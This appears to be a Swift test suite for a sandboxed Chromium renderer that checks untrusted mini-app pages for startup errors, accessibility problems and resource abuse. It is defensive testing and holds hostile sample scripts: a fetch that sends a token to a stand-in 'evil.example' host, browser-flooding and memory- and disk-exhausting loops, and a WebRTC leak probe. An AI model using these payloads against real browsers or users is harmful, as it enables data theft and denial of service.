import AtollChromium
import AtollPackages
import AtollReview
import AtollTestSupport
import Foundation
import Testing

@testable import AtollRendering

#if canImport(Glibc)
import Glibc
#elseif canImport(Darwin)
import Darwin
#endif

/// Chromium is needed: without it these tests fail, as a Center without it says so.
@Suite("Pages in Chromium", .serialized)
struct RendererTests {
    private static func package(
        _ body: String, script: String = "", head: String = "", pages: [String] = ["pages/home"],
        language: String = "en", network: [String] = []
    ) throws -> MiniAppPackage {
        let list = pages.map { "\"\($0)\"" }.joined(separator: ",")
        var files = [
            "manifest.json": """
            {"app_id": "com.example.sample", "name": "Sample", "short_name": "Sample", "lang": "en",
            "version": {"code": 1, "name": "1.0.0"}, "platform_version": {"min_code": 1},
            "pages": [\(list)], "icons": [{"src": "icon.svg"}],
            "atoll_network": [\(network.map { "\"\($0)\"" }.joined(separator: ","))]}
            """,
            "icon.svg": "<svg xmlns=\"http://www.w3.org/2000/svg\"/>", "app.css": "",
            "app.js": "import \"/.atoll/atoll.js\";\n" + script,
        ]
        for page in pages {
            files[page + ".html"] = """
                <!doctype html><html lang="\(language)"><head><meta charset="utf-8"><title>Sample</title>\(head)
                <script type="module" src="/app.js"></script></head><body>\(body)</body></html>
                """
        }
        return try MiniAppPackage(files: files.map { PackageFile(path: $0.key, contents: Data($0.value.utf8)) })
    }

    private static func render(
        _ package: MiniAppPackage, seconds: Int = 300, patience: Duration = .seconds(60), memory: Int = 1 << 30,
        disk: Int? = nil
    ) async throws -> RenderedPackage {
        let executable = try #require(BrowserOptions.find(), "Chromium is needed: apt-get install chromium")
        var options = BrowserOptions.untrusted(executable)
        options.timeLimit = .seconds(seconds)
        options.memoryLimit = memory
        options.niceness = 0
        if let disk { options.diskLimit = disk }
        return try await ChromiumRenderer(options, patience: patience).render(package)
    }

    /// A program in the place of Chromium, which does this.
    private static func render(with script: String) async throws -> RenderedPackage {
        let directory = try TemporaryDirectory()
        let program = directory.url.appending(path: "browser")
        try Data("#!/bin/sh\n\(script)\n".utf8).write(to: program)
        // It runs as another user.
        try FileManager.default.setAttributes([.posixPermissions: 0o755], ofItemAtPath: directory.url.path)
        try FileManager.default.setAttributes([.posixPermissions: 0o755], ofItemAtPath: program.path)
        let rendered = try await ChromiumRenderer(.untrusted(program), patience: .seconds(60)).render(package(fine))
        withExtendedLifetime(directory) {}
        return rendered
    }

    @Test("A browser that does not start, or shows no page at all, is no fault of the page, and its words are told")
    func brokenBrowser() async throws {
        do {
            _ = try await Self.render(with: "echo 'libnss3.so: cannot open shared object file\u{1b}[31m' >&2; exit 127")
            Issue.record("It did not start.")
        } catch let error as RenderingUnavailable {
            #expect("\(error)".contains("libnss3.so: cannot open shared object file?[31m"), "\(error)")
        }
        let chromium = try #require(BrowserOptions.find(), "Chromium is needed: apt-get install chromium").path
        do {
            _ = try await Self.render(with: "exec \(chromium) --renderer-cmd-prefix=/bin/false \"$@\"")
            Issue.record("It has no renderer.")
        } catch let error as RenderingUnavailable {
            #expect("\(error)".contains("an empty page either"), "\(error)")
        }
    }

    private static let fine = "<h1>Hello</h1><p>Some words.</p><button>Go on</button>"

    @Test("A page that starts has a picture in each look, and nothing is found")
    func fine() async throws {
        let rendered = try await Self.render(
            Self.package(
                Self.fine,
                script:
                    "import { host, storage } from \"/.atoll/atoll.js\"; await host.info(); await storage.set(\"a\", 1);",
                pages: ["pages/home", "pages/other"]))
        #expect(rendered.findings == [])
        #expect(rendered.unopened == 0)
        #expect(
            rendered.pictures.map { "\($0.page) \($0.look)" }
                == ["pages/home", "pages/other"].flatMap { page in BrowserLook.all.map { "\(page) \($0.name)" } })
        for picture in rendered.pictures { #expect(picture.png.starts(with: [0x89, 0x50, 0x4e, 0x47])) }
        // A picture says how large it is: RFC 2083, section 4.1.1.
        let sizes = rendered.pictures.prefix(3).map { [UInt8]($0.png[16..<24]) }
        #expect(sizes == [[0, 0, 1, 134, 0, 0, 3, 76], [0, 0, 1, 134, 0, 0, 3, 76], [0, 0, 5, 0, 0, 0, 3, 32]])
    }

    @Test(
        "What keeps a page from starting blocks", .thorough("hostile pages"),
        arguments: [
            ("throw new Error(\"broken on purpose\");", "broken on purpose"),
            ("setTimeout(() => { undefinedThing(); });", "undefinedThing is not defined"),
            ("await Promise.reject(new TypeError(\"not awaited\"));", "not awaited"),
        ])
    func errors(_ script: String, says: String) async throws {
        let rendered = try await Self.render(Self.package(Self.fine, script: script))
        let finding = try #require(rendered.findings.first)
        #expect(finding.code == "start" && finding.severity == .block && finding.path == "pages/home.html")
        #expect(finding.text.contains(says), "\(finding.text)")
        #expect(rendered.pictures.count == 4)
    }

    @Test("A page that never says that it is ready does not start", .thorough("hostile pages"))
    func silent() async throws {
        let package = try Self.package(Self.fine, script: "", head: "")
        let files = package.files.map {
            $0.path == "app.js" ? PackageFile(path: "app.js", contents: Data("1;".utf8)) : $0
        }
        let rendered = try await Self.render(MiniAppPackage(files: files), patience: .seconds(1))
        #expect(rendered.findings.map(\.code) == ["start"])
        #expect(rendered.findings.first?.text.contains("ready") ?? false)
    }

    @Test("What a page asks for and does not get is told", .thorough("hostile pages"))
    func requests() async throws {
        let rendered = try await Self.render(
            Self.package(
                Self.fine
                    + "<img src=\"/missing.png\" alt=\"A cat\"><img src=\"https://tracker.example/p?secret=1\" alt=\"Nothing\">",
                script: """
                    fetch("https://evil.example/steal?token=abc").catch(() => {});
                    fetch("http://127.0.0.1:1/").catch(() => {});
                    console.error("something", "went wrong");
                    """))
        let texts = rendered.findings.map(\.text).joined(separator: "\n")
        #expect(rendered.findings.allSatisfy { $0.code == "page-error" && $0.severity == .warn })
        #expect(texts.contains("/missing.png"), "\(texts)")
        #expect(texts.contains("something went wrong"), "\(texts)")
        #expect(texts.contains("tracker.example") && texts.contains("evil.example"), "\(texts)")
    }

    @Test(
        "A page that does not start without its back end is pointed out, and does not block", .thorough("hostile pages")
    )
    func backEnd() async throws {
        let rendered = try await Self.render(
            Self.package(
                Self.fine, script: "await fetch(\"https://api.example.com/x\");", network: ["https://api.example.com"]))
        #expect(
            rendered.findings.contains { $0.code == "start" } && rendered.findings.allSatisfy { $0.severity == .warn })
    }

    @Test("What can't be read or heard is found, and what can is not", .thorough("hostile pages"))
    func accessibility() async throws {
        let bad = try await Self.render(
            Self.package(
                """
                <p style="color:#aaa;background:#fff">Pale words</p><button><svg width="10" height="10"></svg></button>
                <input type="text"><a href="#x"></a><img src="/icon.svg">
                """, language: ""))
        let codes = bad.findings.map(\.code)
        #expect(codes.filter { $0 == "a11y-name" }.count >= 3, "\(bad.findings.map(\.text))")
        #expect(codes.contains("a11y-language") && codes.contains("a11y-heading") && codes.contains("a11y-contrast"))
        #expect(bad.findings.allSatisfy { $0.severity == .warn })
        let good = try await Self.render(
            Self.package(
                """
                <h2>Words</h2><p style="color:#555;background:#fff">Darker words</p>
                <button aria-label="Close"><svg width="10" height="10" aria-hidden="true"></svg></button>
                <label>Name <input type="text"></label><a href="#x">Further</a><img src="/icon.svg" alt="">
                <p style="color:#ccc" hidden>Not seen</p>
                """))
        #expect(good.findings == [])
    }

    /// With ATOLL_ATTACK, everything that is known to hurt browsers.
    private static let attacks =
        [
            "while (true) {}", "const kept = []; while (true) kept.push(new Uint8Array(50_000_000).fill(7));",
        ]
        + (ProcessInfo.processInfo.environment["ATOLL_ATTACK"] == nil
            ? []
            : [
                "while (true) console.error(\"x\".repeat(10_000));",
                "for (let i = 0; i < 10_000; i++) document.body.append(document.createElement(\"iframe\"));",
                "const again = () => { setTimeout(again); setTimeout(again); location.reload(); }; again();",
                "for (;;) alert(1);", "for (;;) open(\"about:blank\");",
                "document.body.innerHTML = \"<i>\".repeat(3_000_000);",
                "for (let i = 0; i < 200; i++) new Worker(URL.createObjectURL(new Blob([\"while (true) {}\"])));",
                "const c = document.createElement(\"canvas\"); c.width = c.height = 30_000; c.getContext(\"2d\").fillRect(0, 0, 9, 9);",
                "while (true) history.pushState({}, \"\", \"/x\" + Math.random());",
            ])

    @Test(
        "A page that never ends, takes memory or floods the browser is ended in time", .thorough("hostile pages"),
        arguments: attacks)
    func hostile(_ script: String) async throws {
        let began = ContinuousClock.now
        let rendered = try await Self.render(
            Self.package(Self.fine, script: script), seconds: 6, patience: .seconds(2), memory: 700 << 20)
        #expect(began.duration(to: .now) < Waiting.limit)
        #expect(rendered.findings.allSatisfy { ["start", "page-error"].contains($0.code) })
        #expect(rendered.findings.count < 60)
    }

    @Test("A package whose pages never end has two of them opened", .thorough("hostile pages"))
    func manyHostile() async throws {
        let pages = (1...6).map { "pages/number\($0)" }
        let rendered = try await Self.render(
            Self.package(Self.fine, script: "while (true) {}", pages: pages), patience: .seconds(2))
        #expect(rendered.isCutShort && rendered.unopened == 4, "\(rendered.unopened) \(rendered.findings)")
        // The same for one that works, as a proof that it would go on.
        let fine = try await Self.render(Self.package(Self.fine, pages: pages))
        #expect(!fine.isCutShort && fine.unopened == 0)
    }

    @Test(
        "Halves of characters do no harm", .thorough("hostile pages"),
        arguments: [
            "setTimeout(() => { throw new Error(\"\\ud800\"); });",
            "console.error(\"\\udfff\\\\ud800\\ud83d\\ude00\", \"a\".padEnd(9e5, \"\\u0301\"));",
            "document.body.insertAdjacentHTML(\"beforeend\", `<p style='color:#ccc'>${\"x\".repeat(59)}\\ud83d\\ude00 words</p>`);",
        ])
    func halves(_ script: String) async throws {
        let rendered = try await Self.render(Self.package(Self.fine, script: script))
        #expect(rendered.pictures.count == 4)
        #expect(rendered.findings.count == 1)
        #expect(rendered.findings.allSatisfy { $0.text.utf8.count < 2_000 })
    }

    @Test("Nothing leaves the machine, nor reaches it, by WebRTC either", .thorough("hostile pages"))
    func realtime() async throws {
        // A socket that would notice: unconnected, it holds received data.
        let listener = socket(AF_INET, Int32(SOCK_DGRAM.rawValue), 0)
        defer { close(listener) }
        var address = sockaddr_in()
        address.sin_family = sa_family_t(AF_INET)
        address.sin_addr.s_addr = UInt32(0x7f00_0001).bigEndian
        var length = socklen_t(MemoryLayout<sockaddr_in>.size)
        let status = withUnsafeMutablePointer(to: &address) {
            $0.withMemoryRebound(to: sockaddr.self, capacity: 1) {
                bind(listener, $0, length) + getsockname(listener, $0, &length)
            }
        }
        #expect(status == 0)
        let port = UInt16(bigEndian: address.sin_port)
        _ = try await Self.render(
            Self.package(
                Self.fine,
                script: """
                    const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:\(port)" }] });
                    peer.createDataChannel("x");
                    await peer.setLocalDescription(await peer.createOffer());
                    await new Promise((done) => setTimeout(done, 1500));
                    """))
        var byte: UInt8 = 0
        #expect(recv(listener, &byte, 1, Int32(MSG_DONTWAIT)) < 0, "something arrived")
    }

    @Test("A page that fills the disk is ended", .thorough("hostile pages"))
    func disk() async throws {
        let rendered = try await Self.render(
            Self.package(
                Self.fine,
                script: """
                    const folder = await navigator.storage.getDirectory();
                    const file = await (await folder.getFileHandle("x", { create: true })).createWritable();
                    // In large pieces: on a busy machine, small ones do not come to much before the page counts as
                    // loaded.
                    const block = new Uint8Array(1 << 24);
                    for (let i = 0; i < block.length; i += 65536) crypto.getRandomValues(block.subarray(i, i + 65536));
                    for (let i = 0; i < 80; i++) await file.write(block);
                    """), disk: 32 << 20)
        #expect(
            rendered.findings.contains { $0.code == "start" && $0.text.contains("MB to its folder") },
            "\(rendered.findings)")
    }

    @Test("Whoever stops waiting ends the browser at once", .thorough("hostile pages"))
    func cancelling() async throws {
        let package = try Self.package(Self.fine, script: "while (true) {}")
        let task = Task { try await Self.render(package) }
        try await Task.sleep(for: .seconds(2))  // sleep: lets the browser start
        let began = ContinuousClock.now
        task.cancel()
        await #expect(throws: CancellationError.self) { try await task.value }
        #expect(began.duration(to: .now) < Waiting.limit)
    }

    @Test("Nothing of a browser is left", .thorough("hostile pages"))
    func leftovers() async throws {
        _ = try await Self.render(Self.package(Self.fine))
        let names = try [FileManager.default.temporaryDirectory.path, "/tmp"].flatMap {
            try FileManager.default.contentsOfDirectory(atPath: $0)
        }
        let own = "atoll-browser-\(ProcessInfo.processInfo.processIdentifier)-"
        #expect(!names.contains { $0.hasPrefix(own) })
    }

    @Test("Without a browser, it says so")
    func none() async throws {
        let renderer = ChromiumRenderer(.untrusted(URL(filePath: "/no/chromium")))
        await #expect(throws: RenderingUnavailable.self) {
            try await renderer.render(Self.package(Self.fine))
        }
    }

    @Test("A browser that exits immediately is reported as such, not as missing")
    func endsAtOnce() throws {
        let directory = try TemporaryDirectory()
        let program = directory.url.appending(path: "chromium")
        try Data("#!/bin/sh\nexit 3\n".utf8).write(to: program)
        try FileManager.default.setAttributes([.posixPermissions: 0o755], ofItemAtPath: program.path)
        #expect(throws: BrowserError.noStart(path: program.path, reason: "with its sandbox, it exits immediately")) {
            try Browser(BrowserOptions(executable: program))
        }
    }
}
